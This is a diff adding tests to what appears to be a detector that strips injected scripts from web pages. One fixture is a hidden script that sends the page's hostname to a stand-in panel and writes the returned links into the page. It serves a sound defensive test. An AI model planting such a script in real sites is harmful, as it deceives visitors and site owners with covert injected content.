@@ -103,3 +103,21 @@ def test_the_holder_may_be_hidden_in_other_ways_or_be_written_by_the_script(body
 )
 def test_widgets_that_fetch_for_people_to_see_stay(body: str) -> None:
     silent(body=body)
+
+
+def test_an_address_that_names_what_it_sends_need_not_be_new_to_the_page() -> None:
+    script = (
+        "<script>(function(){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4){"
+        'document.getElementById("ft_a").innerHTML=x.responseText;}};'
+        'x.open("GET","https://panel.example.net/backlink/get.php?u="+location.hostname,true);x.send();})();</script>\n'
+    )
+    partner = '<p>Our partner is <a href="https://www.example.net/">the county archive</a>.</p>\n'
+    restores(body=f'{partner}<div id="ft_a"></div>\n{script}', kept_body=partner, rule="fetched-block")
+
+
+def test_a_forecast_from_a_site_that_the_page_names_stays() -> None:
+    silent(
+        body='<p>Forecast by <a href="https://www.example.net/">the weather office</a>.</p><div id="wx"></div>'
+        '<script>fetch("https://panel.example.net/today").then(r=>r.text())'
+        '.then(t=>document.getElementById("wx").innerHTML=t)</script>'
+    )
